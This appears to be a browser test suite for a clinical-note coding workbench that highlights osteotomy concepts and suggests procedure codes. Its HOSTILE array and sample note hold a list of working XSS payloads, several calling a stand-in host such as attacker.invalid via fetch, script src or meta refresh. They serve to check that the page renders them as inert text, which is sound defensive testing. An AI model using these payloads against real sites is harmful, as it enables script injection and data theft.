// The workbench in real browsers, against a real service: what is marked is what the answer points at.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { after, before, describe, test } from "node:test";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";

import { BROWSERS, ROOT, launch, startService } from "./harness.mjs";

const run = promisify(execFile);
const OSTEOTOME = process.env.OSTEOTOME ?? ".venv/bin/osteotome";

const AXE = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const NOTE = [
  "OPERATIVE REPORT 🦴", "PROCEDURE: Left VDRO", "", "INDICATIONS: s/p right varus osteotomy in 2019.", "",
  "DESCRIPTION OF PROCEDURE:", "The femur was exposed. An intertrochanteric osteotomy of the left femur was completed with "
  + "the oscillating saw and a wedge was removed. A blade plate was applied.",
  "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
].join("\n");

/** What an attacker would paste: every kind of element and handler that runs something, quoted and not. */
const RUN = "document.title='owned',fetch('http://attacker.invalid/')";
const HOSTILE = [
  ...["img src=x onerror", "svg onload", "body onload", "details open ontoggle", "input autofocus onfocus", "video src=x onerror",
    "audio src=x onerror", "marquee onstart", "iframe onload", "math onclick", "a onmouseover", "select autofocus onfocus",
  ].flatMap((start) => [`<${start}="${RUN}">`, `<${start}=${RUN.replaceAll("'", "`")}>`, `<${start.toUpperCase()}="${RUN}"`]),
  `<script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//attacker.invalid/x.js></script>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<a href="javascript:${RUN}">x</a>`, `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button>x</button></form>`, `<base href="//attacker.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=//attacker.invalid/">`, `<link rel=stylesheet href=//attacker.invalid/x.css>`,
  `<style>@import '//attacker.invalid/x.css'; * { background: url(//attacker.invalid/y) }</style>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><img src=x onerror="${RUN}"></template>`,
  `<img src=//attacker.invalid/pixel>`, `<img srcset="//attacker.invalid/a 1x">`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "\u202Egnp.exe\u202C", "\u0000<script>1</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
];
/** All that the page makes out of a note and its answer. */
const PLAIN = new Set(["button", "code", "div", "h3", "h4", "li", "mark", "ol", "p", "span", "strong", "ul"]);

let service;
before(async () => (service = await startService()));
after(() => service?.stop());

for (const name of BROWSERS) {
  describe(`workbench in ${name}`, () => {
    let browser, page, faults;
    before(async () => (browser = await launch(name)));
    after(() => browser?.close());

    async function open(size = { width: 1400, height: 900 }) {
      page = await browser.newPage();
      faults = [];
      page.on("pageerror", (error) => faults.push(error.message));
      page.on("console", (message) => message.type() === "error" && faults.push(message.text()));
      await page.setViewport(size);
      await page.goto(service.url);
      await page.waitForSelector("#service[data-state=ready]");
    }

    async function read(text = NOTE) {
      await page.evaluate((value) => (document.querySelector("#source").value = value), text);
      await page.click("#annotate");
      await page.waitForSelector("#paper:not([hidden]) .paper-text");
    }

    /** What the service answers for the same note, to compare the page with. */
    function answer(text = NOTE) {
      return page.evaluate(async (value) => {
        const body = JSON.stringify({ text: value, offsets: "utf16" });
        const response = await fetch("/v1/annotate", { method: "POST", body, headers: { "Content-Type": "application/json" } });
        return response.json();
      }, text);
    }

    const texts = (selector) => page.$$eval(selector, (found) => found.map((one) => one.textContent));

    test("marks_every_match_at_its_words_and_keeps_the_text", async () => {
      await open();
      await read();
      const { concepts } = await answer();
      assert.ok(concepts.length >= 4);
      assert.equal(await page.$eval(".paper-text", (one) => one.textContent), NOTE);
      for (const concept of concepts) assert.equal(NOTE.slice(concept.start, concept.end), concept.text);
      const rows = await page.$$eval(".mentions [data-concept]", (found) => found.map((one) => Number(one.dataset.concept)));
      assert.deepEqual(rows.toSorted((a, b) => a - b), concepts.map((one) => one.id).toSorted((a, b) => a - b));
      const marked = (await texts(".paper-text mark")).join("");
      for (const concept of concepts.filter((one) => one.concept === "femoral_osteotomy")) {
        assert.ok(marked.includes(concept.text), `${concept.concept} is marked`);
      }
      assert.deepEqual(faults, []);
    });

    test("shows_the_answer_with_its_reason_and_code", async () => {
      await open();
      await read();
      const { suggestions } = await answer();
      const first = suggestions.find((one) => one.code === "27165");
      assert.equal(first?.decision, "suggest");
      const card = await page.$eval("section.card", (one) => one.innerText);
      for (const part of ["27165", "Supported", "Modifier LT", first.reason]) assert.ok(card.includes(part), part);
    });

    test("a_reason_takes_the_reader_to_its_words", async () => {
      await open({ width: 1400, height: 420 });
      await read(`${"Padding line of the note.\n".repeat(120)}${NOTE}`);
      const before_ = await page.$eval("#paper", (one) => one.scrollTop);
      await page.$eval("section.card .quote", (one) => one.click());
      await page.waitForFunction((was) => document.querySelector("#paper").scrollTop > was, {}, before_);
      await page.waitForFunction(() => {
        const mark = document.querySelector("mark.active.flash")?.getBoundingClientRect();
        const paper = document.querySelector("#paper").getBoundingClientRect();
        return mark && mark.top >= paper.top && mark.bottom <= paper.bottom;
      });
      const quote = await page.$eval("section.card .quote .specimen", (one) => one.textContent);
      const active = (await texts("mark.active")).join("");
      assert.ok(active.startsWith(quote.slice(0, 20)), `${active} | ${quote}`);
    });

    test("keys_go_through_the_matches_and_back", async () => {
      await open();
      await read();
      const place = () => page.$eval(".place", (one) => one.textContent);
      const total = (await texts(".mentions > li")).length;
      await page.focus("#paper");
      await page.keyboard.press("n");
      assert.equal(await place(), `1 of ${total}`);
      await page.keyboard.press("n");
      assert.equal(await place(), `2 of ${total}`);
      await page.keyboard.press("p");
      await page.keyboard.press("p");
      assert.equal(await place(), `${total} of ${total}`);
      await page.keyboard.press("Escape");
      assert.equal(await page.$eval("#source", (one) => one.hidden), false);
      await page.keyboard.type("n");
      assert.ok((await page.$eval("#source", (one) => one.value)).includes("n"));
      assert.equal(await page.$eval("#stale", (one) => one.hidden), false);
    });

    test("filters_hide_kinds_and_statuses", async () => {
      await open();
      await read();
      const historical = await page.$$eval("mark.s-historical", (found) => found.length);
      assert.ok(historical > 0);
      const chips = await page.$$(".chip");
      for (const chip of chips) {
        if ((await chip.evaluate((one) => one.textContent)).startsWith("Historical")) await chip.click();
      }
      assert.equal((await page.$$("mark.s-historical")).length, 0);
      assert.equal(await page.$eval(".paper-text", (one) => one.textContent), NOTE);
      await page.click(".reset");
      assert.equal((await page.$$("mark.s-historical")).length, historical);
    });

    test("a_note_cannot_run_anything", async () => {
      await open();
      await read();
      assert.equal(await page.$$eval(".paper img, .paper script, .findings img", (found) => found.length), 0);
      assert.equal(await page.title(), "Osteotome workbench");
      const refused = await page.evaluate(() => {
        try {
          const script = document.createElement("script");
          script.textContent = "document.title = 'owned'";
          document.body.append(script);
        } catch (error) {
          return error instanceof TypeError; // Trusted Types refuse before the policy has to
        }
        return document.title !== "owned";
      });
      assert.ok(refused);
    });

    for (const format of ["text", "html"]) {
      test(`hostile_markup_stays_text_in_${format}`, async () => {
        await open();
        const asked = [];
        page.on("request", (request) => asked.push(new URL(request.url())));
        page.on("dialog", (dialog) => {
          faults.push(`dialog: ${dialog.message()}`);
          return dialog.dismiss();
        });
        await page.select("#format", format);
        await read(`${NOTE}\n${HOSTILE.map((one) => `Left intertrochanteric osteotomy ${one} was done.`).join("\n")}`);
        await new Promise((resolve) => setTimeout(resolve, 300));
        const made = await page.$$eval("#paper *, #inspector *, #legend *, .mentions *, .quotes *, .question *",
          (found) => [...new Set(found.map((one) => one.localName))].toSorted());
        assert.deepEqual(made.filter((one) => !PLAIN.has(one)), []);
        assert.equal(await page.title(), "Osteotome workbench");
        assert.deepEqual(asked.filter((url) => url.origin !== new URL(service.url).origin).map(String), []);
        assert.deepEqual(faults, []);
      });
    }

    test("a_file_is_read_by_the_service", async () => {
      await open();
      const folder = await mkdtemp(join(tmpdir(), "osteotome-file-"));
      const file = join(folder, "note.html");
      await writeFile(file, "<p>Left <b>intertrochanteric</b> osteotomy of the femur was completed with the saw.</p>");
      const input = await page.$("#file");
      await input.uploadFile(file);
      await page.waitForSelector("#paper:not([hidden]) mark");
      await rm(folder, { recursive: true });
      const text = "Left intertrochanteric osteotomy of the femur was completed with the saw.";
      assert.equal((await page.$eval(".paper-text", (one) => one.textContent)).trim(), text);
      assert.equal((await page.$eval("#source", (one) => one.value)).trim(), text);
    });

    test("html_is_read_and_marked_as_text", async () => {
      await open();
      await page.select("#sample", "ehr-html");
      await page.waitForSelector("#paper:not([hidden]) mark");
      const text = await page.$eval(".paper-text", (one) => one.textContent);
      assert.ok(!text.includes("<"));
      assert.ok(!text.includes("ignored()"));
      assert.ok((await texts("mark")).join(" ").includes("osteotomy"));
    });

    test("every_built_in_note_is_read", async () => {
      await open();
      const ids = await page.$$eval("#sample option", (found) => found.map((one) => one.value).filter(Boolean));
      assert.ok(ids.length >= 8);
      for (const id of ids) {
        await page.select("#sample", id);
        await page.waitForFunction(() => document.querySelector("#annotate").textContent === "Read the note");
        await page.waitForSelector("section.card .code");
        assert.ok((await texts(".code")).includes("27165"), id);
      }
      assert.deepEqual(faults, []);
    });

    test("feedback_is_kept_by_the_service", async () => {
      await open();
      await read();
      await page.click(".verdict.agree");
      await page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Accepted"));
      await page.click(".verdict.disagree");
      await page.waitForSelector(".reject select");
      await page.select(".reject select", "wrong_level");
      await page.click(".reject button");
      await page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Rejected"));
      await page.click(".verdict.disagree");
      await page.waitForSelector(".reject select[name=right]");
      await page.select(".reject select[name=right]", "no");
      await page.type(".reject input[name=codes]", "27450, 27450");
      await page.click(".reject button");
      await page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Corrected"));
    });

    test("a_refusal_is_told_in_words", async () => {
      await open();
      await page.click("#annotate");
      assert.match(await page.$eval("#notice", (one) => one.textContent), /Paste a note first/);
      await page.evaluate(() => (globalThis.fetch = () => Promise.reject(new TypeError("down"))));
      await page.evaluate(() => (document.querySelector("#source").value = "a note"));
      await page.click("#annotate");
      await page.waitForFunction(() => document.querySelector("#notice").textContent.includes("cannot be reached"));
      assert.equal(await page.$eval("#annotate", (one) => one.disabled), false);
    });

    test("pairing_brings_a_token_to_this_tab", async () => {
      const guarded = await startService(["--access", "token"]);
      try {
        page = await browser.newPage();
        await page.goto(guarded.url);
        await page.waitForFunction(() => document.querySelector("#service").textContent === "Token needed");
        await page.click("#token-button");
        await page.click("#pair");
        await page.waitForSelector("#pair-code:not([hidden])");
        const code = await page.$eval("#pair-code", (one) => one.textContent);
        await run(OSTEOTOME, ["pair", "approve", code, "--name", "Ann", "--state-dir", guarded.state], { cwd: ROOT });
        await page.waitForFunction(() => document.querySelector("#service").textContent === "Service ready for Ann");
        assert.equal(await page.$eval("#access", (one) => one.open), false);
        await read();
        assert.equal(await page.$eval("section.card .code", (one) => one.textContent), "27165");
        assert.equal(await page.evaluate(() => localStorage.length), 0);
      } finally {
        await guarded.stop();
      }
    });

    for (const theme of ["light", "dark"]) {
      test(`axe_finds_nothing_in_${theme}`, async () => {
        await open();
        await page.evaluate((value) => (document.documentElement.dataset.theme = value), theme);
        const empty = await axe(page);
        await read();
        await page.click("section.card .disagree");
        await page.waitForSelector(".reject select");
        const full = await axe(page);
        await page.click("#token-button");
        const dialog = await axe(page);
        assert.deepEqual([...empty, ...full, ...dialog], []);
      });
    }

    for (const width of [400, 700, 940, 1100]) {
      test(`fits_a_window_of_${width}`, async () => {
        await open({ width, height: 800 });
        await read();
        const over = await page.evaluate(() => {
          const { scrollWidth, clientWidth } = document.documentElement;
          const cut = [...document.querySelectorAll(".pane-bar button, .topbar button, .topbar a, .inspector button")].filter((one) => {
            const box = one.getBoundingClientRect();
            const frame = one.closest(".pane, .topbar").getBoundingClientRect();
            return box.width && (box.left < frame.left || box.right > frame.right);
          });
          return { page: scrollWidth - clientWidth, cut: cut.map((one) => one.textContent) };
        });
        assert.deepEqual(over, { page: 0, cut: [] });
      });
    }
  });
}

/** Violations as "rule: selector"; axe is injected by the driver, so the page's own policy stays. */
async function axe(page) {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { violations } = await globalThis.axe.run(document, { resultTypes: ["violations"] });
    return violations.flatMap((one) => one.nodes.map((node) => `${one.id}: ${node.target.join(" ")}`));
  });
}
